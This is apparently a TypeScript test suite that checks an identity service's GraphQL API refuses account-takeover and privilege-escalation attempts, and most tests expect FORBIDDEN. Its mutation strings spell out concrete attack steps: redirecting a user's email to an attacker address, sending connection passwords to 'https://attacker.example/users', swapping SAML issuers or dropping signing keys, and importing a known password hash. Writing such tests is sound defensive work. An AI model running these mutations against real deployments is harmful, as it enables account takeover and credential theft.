import { eachDatabase } from '#test/support/databases';
import { acme, globex } from '#test/attacks/support/cast';
import { Stage } from '#test/attacks/support/stage';

const rights = [
  ...[
    'read:users',
    'update:users',
    'delete:users',
    'create:users',
    'create:user_tickets',
    'update:connections',
  ],
  ...['delete:authentication_methods', 'read:connections', 'read:attack_protection'],
  'delete:attack_protection_blocks',
];

/** What chooses how somebody signs in. */
const takingHold = (id: string, other: string): Readonly<Record<string, string>> => ({
  updateUser: `updateUser(input: { id: "${id}", email: "taken@attacker.example" }) { __typename }`,
  createPasswordTicket: `createPasswordTicket(input: { userId: "${id}" }) { ticket { url } }`,
  createEmailVerificationTicket: `createEmailVerificationTicket(input: { userId: "${id}" }) { ticket { url } }`,
  resetUserAuthenticationMethods: `resetUserAuthenticationMethods(input: { userId: "${id}" }) { __typename }`,
  'linkIdentity to': `linkIdentity(input: { userId: "${id}", secondaryUserId: "${other}" }) { __typename }`,
  'linkIdentity of': `linkIdentity(input: { userId: "${other}", secondaryUserId: "${id}" }) { __typename }`,
});

/** What decides about an account as a whole. */
const changing = (id: string): Readonly<Record<string, string>> => ({
  blockUser: `blockUser(input: { id: "${id}" }) { __typename }`,
  unblockUser: `unblockUser(input: { id: "${id}" }) { __typename }`,
  'updateUser blocked': `updateUser(input: { id: "${id}", blocked: true }) { __typename }`,
  unlinkIdentity: `unlinkIdentity(input: { userId: "${id}", provider: "x", providerUserId: "x" }) { __typename }`,
  setPrimaryIdentity: `setPrimaryIdentity(input: { userId: "${id}", provider: "x", providerUserId: "x" }) { __typename }`,
  deleteUser: `deleteUser(input: { id: "${id}" }) { __typename }`,
});

eachDatabase('taking hold of accounts with more rights', (database) => {
  let stage: Stage;
  /** Holds `rights` inside acme alone. */
  let inside: string;
  /** Holds `rights` for the whole deployment, and cannot give away what it does not hold. */
  let staff: string;
  let attacker: string;

  beforeAll(async () => {
    stage = await Stage.open(database);
    const roleId = await stage.product.givenRole('Helper', rights);
    const helper = await given('helper@acme.example', [], [acme]);
    attacker = await given('attacker@acme.example', [], [acme]);
    await run(
      `addMemberRoles(input: { organizationId: "${acme}", userId: "${helper}", roleIds: ["${roleId}"] }) { __typename }`,
      stage.administrator,
    );
    inside = await stage.product.user(helper, acme);
    staff = await stage.product.machine(rights);
  });
  afterAll(() => stage.close());

  const run = async (mutation: string, as: string): Promise<string> => {
    const { errors } = await stage.ask(`mutation { ${mutation} }`, { as });
    const extensions = errors[0]?.extensions as { code: string; reason?: string } | undefined;
    return extensions ? [extensions.code, extensions.reason].filter(Boolean).join(' ') : 'done';
  };
  const given = async (
    email: string,
    permissions: readonly string[],
    organizations: readonly string[],
  ): Promise<string> => {
    const roleIds =
      permissions.length === 0 ? null : [await stage.product.givenRole(`of ${email}`, permissions)];
    const id = await stage.product.givenUser({ email, ...(roleIds && { roleIds }) });
    for (const organization of organizations)
      await run(
        `addOrganizationMembers(input: { id: "${organization}", userIds: ["${id}"] }) { __typename }`,
        stage.administrator,
      );
    return id;
  };
  const outcomes = async (mutations: Readonly<Record<string, string>>, as: string): Promise<string[]> => {
    const found: string[] = [];
    for (const [name, mutation] of Object.entries(mutations))
      found.push(`${name}: ${await run(mutation, as)}`);
    return found;
  };
  const all = (outcome: string, mutations: Readonly<Record<string, string>>): string[] =>
    Object.keys(mutations).map((name) => `${name}: ${outcome}`);

  const connectionIds = async (): Promise<Map<string, string>> => {
    const { text } = await stage.ask('{ connections(first: 100) { nodes { name id } } }', {
      as: stage.administrator,
    });
    const found = text.matchAll(/"name":"(\w+)","id":"(con_\w+)"/g);
    return new Map([...found].map(([, name = '', id = '']) => [name, id]));
  };

  test('IM-01 AZ-18 from inside an organization nobody takes or ends an account that is worth something outside', async () => {
    const shared = await given('shared@acme.example', [], [acme, globex]);
    const ofDeployment = await given('root@acme.example', ['read:users'], [acme]);
    for (const [id, reason] of [
      [shared, 'SHARED_USER'],
      [ofDeployment, 'STRONGER'],
    ] as const) {
      const tried = { ...takingHold(id, attacker), ...changing(id) };
      expect(await outcomes(tried, inside)).toEqual(all(`FORBIDDEN ${reason}`, tried));
    }
    const own = await given('own@acme.example', [], [acme]);
    const { updateUser, createPasswordTicket, resetUserAuthenticationMethods } = takingHold(own, attacker);
    const { blockUser, deleteUser } = changing(own);
    const allowed = {
      updateUser,
      createPasswordTicket,
      resetUserAuthenticationMethods,
      blockUser,
      deleteUser,
    };
    expect(await outcomes(allowed as Record<string, string>, inside)).toEqual(all('done', allowed as never));
    expect(await run(`updateUser(input: { id: "${shared}", nickname: "Sha" }) { __typename }`, inside)).toBe(
      'done',
    );
  });

  test('AZ-20 whoever may change users is not thereby an administrator', async () => {
    const stronger = await given('stronger@example.com', ['grant:any'], []);
    const strongerInside = await given('manager@globex.example', [], [globex]);
    const roleId = await stage.product.givenRole('Manager of globex', ['delete:organization_members']);
    await run(
      `addMemberRoles(input: { organizationId: "${globex}", userId: "${strongerInside}", roleIds: ["${roleId}"] }) { __typename }`,
      stage.administrator,
    );
    const other = await given('accomplice@example.com', [], []);
    for (const id of [stronger, strongerInside]) {
      const tried = takingHold(id, other);
      expect(await outcomes(tried, staff)).toEqual(all('FORBIDDEN STRONGER', tried));
    }
    const equal = await given('equal@example.com', ['read:users', 'update:me:profile'], []);
    const { createPasswordTicket = '' } = takingHold(equal, other);
    expect(await run(createPasswordTicket, staff)).toBe('done');
    const { createPasswordTicket: ofRoot = '' } = takingHold(stronger, other);
    expect(await run(ofRoot, stage.administrator)).toBe('done');
  });

  test('AZ-22 whoever may change roles takes nothing from administrators that he does not hold', async () => {
    const roleId = await stage.product.givenRole('Root', ['grant:any', 'read:users']);
    const { text } = await stage.ask(`{ role(id: "${roleId}") { permissions { id name } } }`, {
      as: stage.administrator,
    });
    const permissionOf = (name: string): string =>
      new RegExp(`"(prm_\\w+)","name":"${name}"`).exec(text)?.[1] ?? '';
    const changer = await stage.product.machine(['update:roles', 'delete:roles', 'read:users']);
    const removing = (name: string): string =>
      `removeRolePermissions(input: { id: "${roleId}", permissionIds: ["${permissionOf(name)}"] }) { __typename }`;
    expect(await run(removing('grant:any'), changer)).toBe('FORBIDDEN');
    expect(await run(`deleteRole(input: { id: "${roleId}" }) { __typename }`, changer)).toBe('FORBIDDEN');
    expect(await run(removing('read:users'), changer)).toBe('done');
    expect(await run(`deleteRole(input: { id: "${roleId}" }) { __typename }`, stage.administrator)).toBe(
      'done',
    );
  });

  test('AZ-20 no file chooses a password for who may do more', async () => {
    await given('passwordless@example.com', ['grant:any'], []);
    const hash = { algorithm: 'md5', hash: { value: '5f4dcc3b5aa765d61d8327deb882cf99', encoding: 'hex' } };
    const asked = `mutation ($rows: [JSON!]!) { importUsers(input: { rows: $rows, upsert: true }) {
      job { userImport { summary { updated failed } errors { nodes { errors { code path } } } } } } }`;
    const importing = async (as: string): Promise<string> =>
      (
        await stage.ask(asked, {
          as,
          variables: { rows: [{ email: 'passwordless@example.com', custom_password_hash: hash }] },
        })
      ).text;
    expect(await importing(staff)).toContain('{"code":"FIELD_NOT_ALLOWED","path":"custom_password_hash"}');
    expect(await importing(stage.administrator)).toContain('"updated":1');
  });

  test('AZ-18 from inside an organization nobody sets where the passwords of a connection are asked for, nor forgets attempts', async () => {
    const source = 'http: { url: "https://attacker.example/users" }';
    const global = {
      setMigrationSource: `setMigrationSource(input: { connectionId: "main", ${source} }) { __typename }`,
      setImportMode: `setImportMode(input: { connectionId: "main", isOn: false }) { __typename }`,
      testMigrationSource: `testMigrationSource(input: { connectionId: "main", identifier: "a" }) { __typename }`,
      finishMigration: `finishMigration(input: { connectionId: "main" }) { __typename }`,
      unblockIp: `unblockIp(input: { ip: "192.0.2.1" }) { __typename }`,
    };
    expect(await outcomes(global, inside)).toEqual(all('FORBIDDEN', global));
    for (const query of [
      'migrationStatus(connectionId: "main") { importMode }',
      'ipBlock(ip: "192.0.2.1") { network }',
    ]) {
      const { errors } = await stage.ask(`{ ${query} }`, { as: inside });
      expect(errors.map(({ extensions }) => extensions.code)).toEqual(['FORBIDDEN']);
    }
    const { unblockIp } = global;
    expect(await run(unblockIp, staff)).toBe('done');
  });

  test('AZ-20 whoever may change connections signs in as nobody who may do more', async () => {
    const changer = await stage.product.machine(['create:connections', 'update:connections', 'read:users']);
    const ids = await connectionIds();
    const update = (name: string, settings: string): string =>
      `updateConnection(input: { id: "${ids.get(name)}", ${settings} }) { __typename }`;
    const source = `setMigrationSource(input: { connectionId: "main", http: { url: "https://attacker.example/users" } }) { __typename }`;
    const deciding = (name: string): Record<string, string> => ({
      entityId: update(name, 'saml: { entityId: "https://attacker.example" }'),
      signingKey: update(name, 'saml: { signingKey: null }'),
      user_id: update(name, 'attributeMapping: { user_id: ["nickname"], attributes: {} }'),
      groups: update(name, 'attributeMapping: { groups: ["nickname"] }'),
    });
    const harmless = {
      displayName: update('corp', 'displayName: "Corp"'),
      linking: update('corp', 'linkingDomains: ["corp.example"]'),
      office: update('corp', 'attributeMapping: { groups: ["nickname"], office: ["site"] }'),
    };
    // Nobody from there may do more than the caller.
    expect(await outcomes(deciding('corp'), changer)).toEqual(all('done', deciding('corp')));
    const roleId = await stage.product.givenRole('Root of corp', ['grant:any']);
    const give = `addUserRoles(input: { id: "samlp|corp|c3", roleIds: ["${roleId}"] }) { __typename }`;
    expect(await run(give, stage.administrator)).toBe('done');
    const again = {
      ...deciding('corp'),
      groups: update('corp', 'attributeMapping: { groups: ["other"] }'),
      entityId: update('corp', 'saml: { entityId: "https://again.example" }'),
    };
    expect(await outcomes(again, changer)).toEqual(all('FORBIDDEN STRONGER', again));
    expect(await outcomes(harmless, changer)).toEqual(all('done', harmless));
    // The same provider may have moved; another one would give its ids to the people of this one.
    expect(await run(again.entityId, stage.administrator)).toBe('CONFLICT');
    const moved = update('corp', 'knowsSamePeople: true, saml: { entityId: "https://again.example" }');
    expect(await run(moved, changer)).toBe('FORBIDDEN STRONGER');
    expect(await run(moved, stage.administrator)).toBe('done');
    await given('administrator@main.example', ['grant:any'], []);
    expect(await run(source, changer)).toBe('FORBIDDEN STRONGER');
    expect(await run(source, stage.administrator)).toBe('done');
    const off = 'setImportMode(input: { connectionId: "main", isOn: false }) { __typename }';
    expect(await run(off, changer)).toBe('FORBIDDEN STRONGER');
    // Nobody is there yet, but who comes as a member of the group will hold its role.
    const made = await stage.ask(
      `mutation { createConnection(input: { name: "fresh", strategy: "samlp" }) { connection { id } }
        createGroup(input: { name: "Roots", description: "All" }) { group { id } } }`,
      { as: stage.administrator },
    );
    ids.set('fresh', /con_\w+/.exec(made.text)?.[0] ?? '');
    const groupId = /grp_\w+/.exec(made.text)?.[0] ?? '';
    expect(await run(deciding('fresh')['entityId'] ?? '', changer)).toBe('done');
    expect(
      await outcomes(
        {
          role: `addGroupRoles(input: { id: "${groupId}", roleIds: ["${roleId}"] }) { __typename }`,
          mapping: `createGroupMapping(input: { groupId: "${groupId}", connection: "fresh", groupName: "roots" }) { __typename }`,
        },
        stage.administrator,
      ),
    ).toEqual(['role: done', 'mapping: done']);
    const { user_id = '', groups = '' } = deciding('fresh');
    expect(await outcomes({ user_id, groups }, changer)).toEqual(
      all('FORBIDDEN STRONGER', { user_id, groups }),
    );
  });

  test('AZ-18 B26 inside an organization connections of others are as absent, in every way', async () => {
    const ids = await connectionIds();
    const [own, foreign] = [ids.get('corp') ?? '', ids.get('main') ?? ''];
    const linked = `linkOrganizationConnection(input: { organizationId: "${acme}", connectionId: "${own}" }) { __typename }`;
    expect(await run(linked, stage.administrator)).toBe('done');
    const ask = async (id: string): Promise<unknown> =>
      (
        await stage.ask(
          `query ($id: ID!) { connection(id: $id) { name } node(id: $id) { id }
            _entities(representations: [{ __typename: "Connection", id: $id }]) { ... on Connection { name } } }`,
          { as: inside, variables: { id } },
        )
      ).data;
    expect(await ask(foreign)).toEqual({ connection: null, node: null, _entities: [null] });
    expect(await ask(foreign)).toEqual(await ask('con_none000000000000'));
    expect(await ask(own)).toEqual({
      connection: { name: 'corp' },
      node: { id: own },
      _entities: [{ name: 'corp' }],
    });
    const list = await stage.ask('{ connections { totalCount nodes { name } pageInfo { hasNextPage } } }', {
      as: inside,
    });
    expect(list.data).toEqual({
      connections: { totalCount: 1, nodes: [{ name: 'corp' }], pageInfo: { hasNextPage: false } },
    });
  });
});
